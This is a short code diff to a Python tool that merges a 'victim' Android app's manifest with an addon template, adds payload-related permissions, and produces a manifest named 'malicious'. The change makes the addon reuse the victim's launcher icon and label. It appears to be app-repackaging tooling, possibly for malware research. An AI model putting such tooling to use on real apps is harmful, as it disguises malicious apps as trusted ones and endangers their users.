@@ -32,8 +32,9 @@ from .manifest import (
     KIND_KEYS,
     AppManifest,
     Component,
+    NoLauncherError,
     SchemaError,
-    extract_launcher_resources,
+    launcher_activity,
 )
 from .permissions import ADDON_EXTRA_PERMISSIONS, INTERNET, PAYLOAD_STORES
 
@@ -142,14 +143,15 @@ def customize(victim: AppManifest, addon_template: AppManifest,
     marks.append(time.perf_counter())
     by_kind, rename_map, services = _merge_components(victim, kept, addon_template)
     marks.append(time.perf_counter())
-    shortcut_icon, shortcut_label = extract_launcher_resources(victim)
+    if launcher_activity(victim) is None:
+        raise NoLauncherError(f"{victim.package}: no launcher activity declared")
     marks.append(time.perf_counter())
     report = [{"step": step, "detail": detail, "duration_ms": (end - start) * 1000.0}
               for (step, detail), start, end in zip(_STEPS, marks, marks[1:])]
 
     t = addon_template
     addon = AppManifest(t.package, t.label, t.version, permissions, victim.features,
-                        *by_kind.values(), t.launcher_icon, shortcut_icon, shortcut_label,
+                        *by_kind.values(), t.launcher_icon, victim.launcher_icon, victim.label,
                         t.native_components)
     malicious = AppManifest(
         catalog.package, catalog.label, catalog.version,
